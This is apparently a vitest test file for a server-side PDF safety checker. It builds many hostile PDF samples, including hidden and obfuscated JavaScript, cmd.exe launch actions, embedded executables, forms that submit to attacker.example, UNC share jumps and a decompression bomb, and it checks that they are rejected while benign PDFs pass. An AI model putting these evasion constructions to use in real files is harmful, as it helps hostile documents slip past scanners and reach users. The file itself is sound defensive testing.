import { deflateSync } from "node:zlib";
import { PDFDocument, StandardFonts } from "@cantoo/pdf-lib";
import { describe, expect, it } from "vitest";
import { Refusal } from "../http/refusal.ts";
import { checkPdf } from "./check-pdf.ts";
import { ONE_PAGE, packed, pdfOf, revised, streamOf } from "./pdf.fixtures.ts";

const SCRIPT = "<</S/JavaScript/JS(app.alert(1))>>";
const [, PAGES = "", PAGE = ""] = ONE_PAGE;
const catalog = (entries: string) => `<</Type/Catalog/Pages 2 0 R${entries}>>`;
const opening = (action: string, ...more: readonly string[]) =>
  pdfOf([catalog("/OpenAction 4 0 R"), PAGES, PAGE, action, ...more]);
const page = (entries: string, ...more: readonly string[]) =>
  pdfOf([catalog(""), PAGES, `<</Type/Page/Parent 2 0 R${entries}>>`, ...more]);

/**
 * The usual limit is too short for a busy machine, which needs several seconds to start the thread.
 */
const PATIENT_MS = 60_000;

async function verdict(bytes: Uint8Array, timeoutMs = PATIENT_MS): Promise<string> {
  return checkPdf(bytes, timeoutMs).then(
    () => "taken",
    (error: unknown) => (error instanceof Refusal ? error.code : String(error)),
  );
}

/** Builds a small PDF that would decompress to 4 GB. */
function bomb(): Buffer {
  const once = deflateSync(Buffer.alloc(64 * 1_024 * 1_024), { level: 9 });
  return pdfOf([...ONE_PAGE, streamOf("/Type/ObjStm/Filter/FlateDecode/N 1/First 4", once)]);
}

const hidden = (object: string) =>
  `<</Length 0>>\nstream\nendstream\n% ${object.replaceAll("\n", " ")}`;

/** Packed objects that can be found only through the file's cross-reference table. */
const PACKED_IN_HEX = `9 0 obj ${packed({ 9: SCRIPT }, "/Filter/ASCIIHexDecode", (text) =>
  Buffer.from(`${text.toString("hex")}>`),
)} endobj`;

const UNSAFE: readonly (readonly [string, Buffer])[] = [
  ["a script that opens with it", opening(SCRIPT)],
  ["a script whose name is escaped", opening("<</S/J#61vaScr#69pt/J#53(app.alert(1))>>")],
  ["a script named by another object", opening("<</S 5 0 R/JS(x)>>", "/JavaScript")],
  [
    "a script in a name tree",
    pdfOf([catalog(`/Names<</JavaScript<</Names[(a)${SCRIPT}]>>>>`), PAGES, PAGE]),
  ],
  ["a script in an object stream", pdfOf([...ONE_PAGE, packed({ 9: SCRIPT })])],
  [
    "an escaped script in an object stream",
    pdfOf([...ONE_PAGE, packed({ 9: "<</S/#4aavaScript/JS(x)>>" })]),
  ],
  ["an object stream without their type", pdfOf([...ONE_PAGE, packed({ 9: SCRIPT }, "")])],
  [
    "an object stream under another type",
    pdfOf([...ONE_PAGE, packed({ 9: SCRIPT }, "/Type/XObject")]),
  ],
  [
    "an object stream whose type is escaped",
    pdfOf([...ONE_PAGE, packed({ 9: SCRIPT }, "/Type/Obj#53tm")]),
  ],
  [
    "an object stream compressed twice",
    pdfOf([
      ...ONE_PAGE,
      streamOf(
        "/Type/ObjStm/Filter[/FlateDecode/FlateDecode]/N 1/First 4",
        deflateSync(deflateSync(Buffer.from(`9 0 ${SCRIPT}`))),
      ),
    ]),
  ],
  [
    "objects packed as hexadecimal",
    pdfOf([
      ...ONE_PAGE,
      streamOf(
        "/Type/ObjStm/Filter/ASCIIHexDecode/N 1/First 4",
        `${Buffer.from(`9 0 ${SCRIPT}`).toString("hex")}>`,
      ),
    ]),
  ],
  ["a script in an earlier revision", revised(opening(SCRIPT), { 4: "<</S/GoTo/D[3 0 R/Fit]>>" })],
  ["a script in a later revision", revised(opening("<</S/GoTo/D[3 0 R/Fit]>>"), { 4: SCRIPT })],
  [
    "a script inside a content stream",
    pdfOf([...ONE_PAGE, streamOf("", `4 0 obj ${SCRIPT} endobj`)]),
  ],
  [
    "an object stream inside a stream",
    pdfOf([...ONE_PAGE, streamOf("", `9 0 obj ${packed({ 9: SCRIPT }, "")} endobj`)]),
  ],
  ["an object stream inside a text", pdfOf([...ONE_PAGE, `<</Title(${PACKED_IN_HEX})>>`])],
  [
    "an object stream inside a text, behind comments",
    pdfOf([
      ...ONE_PAGE,
      `<</Title(${PACKED_IN_HEX.replace("9 0 obj", "9%1\n0 %2\n%3\nobj%4\n")})>>`,
    ]),
  ],
  [
    "an object stream inside a text of an object stream",
    pdfOf([
      ...ONE_PAGE,
      packed({ 8: `<</Title(${PACKED_IN_HEX})>>` }, "/Type/ObjStm", (text) => text),
    ]),
  ],
  [
    "an XFA form inside a stream",
    pdfOf([...ONE_PAGE, streamOf("", "<</AcroForm<</XFA 9 0 R/Fields[]>>>>")]),
  ],
  [
    "a URI action in its trailer",
    pdfOf(ONE_PAGE, "/Root<</OpenAction<</S/URI/URI(https://attacker.example)>>>>"),
  ],
  ["a script behind a comment", pdfOf([...ONE_PAGE, hidden(`4 0 obj ${SCRIPT} endobj`)])],
  ["a program to start", opening("<</S/Launch/F(cmd.exe)>>")],
  [
    "a launch action in an annotation",
    page("/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/Win<</F(cmd.exe)>>>>>>]"),
  ],
  [
    "an embedded file",
    pdfOf([
      catalog("/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>"),
      PAGES,
      PAGE,
      "<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
      streamOf("/Type/EmbeddedFile", "MZ"),
    ]),
  ],
  [
    "an associated file",
    pdfOf([catalog("/AF[4 0 R]"), PAGES, PAGE, "<</F(a.exe)/EF<</F 5 0 R>>>>", streamOf("", "MZ")]),
  ],
  [
    "a file attachment annotation",
    page("/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS(a)>>]"),
  ],
  ["a portfolio", pdfOf([catalog("/Collection<</View/D>>"), PAGES, PAGE])],
  [
    "a form to fill in",
    pdfOf([
      catalog("/AcroForm<</Fields[4 0 R]>>"),
      PAGES,
      PAGE,
      "<</FT/Tx/T(name)/Subtype/Widget>>",
    ]),
  ],
  [
    "a form field whose type is an indirect object",
    pdfOf([catalog("/AcroForm<</Fields[4 0 R]>>"), PAGES, PAGE, "<</FT 5 0 R/T(name)>>", "/Tx"]),
  ],
  [
    "an XFA form",
    pdfOf([catalog("/AcroForm<</XFA 4 0 R/Fields[]>>"), PAGES, PAGE, streamOf("", "<xdp/>")]),
  ],
  ["a form that sends itself", opening("<</S/SubmitForm/F(https://attacker.example)>>")],
  ["a form that reads a file", opening("<</S/ImportData/F(a.fdf)>>")],
  ["an action when a page opens", page("/AA<</O<</S/URI/URI(https://attacker.example)>>>>")],
  ["an address that opens with it", opening("<</S/URI/URI(https://attacker.example)>>")],
  [
    "an address that opens with it in one revision",
    revised(opening("<</S/URI/URI(https://attacker.example)>>"), { 4: "<</S/GoTo/D[3 0 R/Fit]>>" }),
  ],
  ["a jump to another file", opening("<</S/GoToR/F(\\\\\\\\attacker\\\\share.pdf)/D[0/Fit]>>")],
  ["a jump into an embedded file", opening("<</S/GoToE/T<</R/C/N(a)>>>>")],
  ["a stream that lies elsewhere", pdfOf([...ONE_PAGE, streamOf("/F(//attacker/x)", "")])],
  ["rich media", page("/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]")],
  ["a film", page("/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]>>]")],
  ["a rendition", opening("<</S/Rendition/OP 0>>")],
  ["a PostScript program", pdfOf([...ONE_PAGE, streamOf("/Type/XObject/Subtype/PS", "showpage")])],
  ["a password", pdfOf(ONE_PAGE, "/Encrypt<</Filter/Standard/V 2/R 3/P -4/O(x)/U(x)>>")],
  ["more in it than fits", bomb()],
];

describe("checking a PDF", () => {
  it.each(UNSAFE)("rejects a PDF with %s as unsafe", async (_name, bytes) => {
    expect(await verdict(bytes)).toBe("file_unsafe");
  });

  it.each<readonly [string, Buffer]>([
    ["that ends within an object", Buffer.from("%PDF-1.7\n1 0 obj\n<</Type/Catalog")],
    ["without any object", Buffer.from("%PDF-1.7\n%%EOF\n")],
    [
      "whose object stream is corrupt",
      pdfOf([...ONE_PAGE, streamOf("/Type/ObjStm/Filter/FlateDecode/N 1/First 4", "none")]),
    ],
    ["with lists in lists without end", pdfOf([...ONE_PAGE, "[".repeat(200_000)])],
  ])("rejects a PDF %s as damaged", async (_name, bytes) => {
    expect(await verdict(bytes)).toBe("file_damaged");
  });

  it("rejects a PDF that takes too long to read, while the server keeps responding", async () => {
    // Reading it would take minutes.
    const slow = Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(5_000_000, "1 0 obj\n")]);
    let turns = 0;
    const counting = setInterval(() => {
      turns += 1;
    }, 10);
    expect(await verdict(slow, 2_000)).toBe("file_unsafe");
    clearInterval(counting);
    expect(turns).toBeGreaterThan(15);
  });

  it.each<readonly [string, () => Buffer | Promise<Uint8Array>]>([
    ["of one page", () => pdfOf(ONE_PAGE)],
    [
      "with a link to an address",
      () =>
        page(
          "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.com)>>>>]",
        ),
    ],
    ["that opens at a page", () => pdfOf([catalog("/OpenAction[3 0 R/Fit]"), PAGES, PAGE])],
    ["that opens at a page by an action", () => opening("<</S/GoTo/D[3 0 R/Fit]>>")],
    [
      "with a signature",
      () =>
        pdfOf([
          catalog("/AcroForm<</Fields[4 0 R]/SigFlags 3>>"),
          PAGES,
          PAGE,
          "<</FT/Sig/T(signed)/Subtype/Widget>>",
        ]),
    ],
    [
      "with an outline in an object stream",
      () =>
        pdfOf([
          catalog("/Outlines 8 0 R"),
          PAGES,
          PAGE,
          packed({
            8: "<</Type/Outlines/First 9 0 R/Last 9 0 R/Count 1>>",
            9: "<</Title(One)/Parent 8 0 R/Dest[3 0 R/Fit]>>",
          }),
        ]),
    ],
    [
      "that was saved again",
      () => revised(pdfOf(ONE_PAGE), { 3: "<</Type/Page/Parent 2 0 R/Rotate 90>>" }),
    ],
    [
      "with text about objects",
      () => pdfOf([...ONE_PAGE, streamOf("", "BT (At 10 20 objects) Tj ET")]),
    ],
    ["with a blend mode", () => page("/Resources<</ExtGState<</G<</BM/Screen>>>>>>")],
    ["written by a library, packed", () => statement(true)],
    ["written by a library, plain", () => statement(false)],
  ])("accepts a PDF %s", async (_name, make) => {
    expect(await verdict(await make())).toBe("taken");
  });
});

/** Builds a few pages with text and as much random data as a picture contains. */
async function statement(useObjectStreams: boolean): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  document.setTitle("Statement");
  for (let number = 1; number <= 5; number++) {
    document.addPage().drawText(`Statement /JS launch, page ${number}`, { x: 40, y: 700, font });
  }
  return document.save({ useObjectStreams });
}
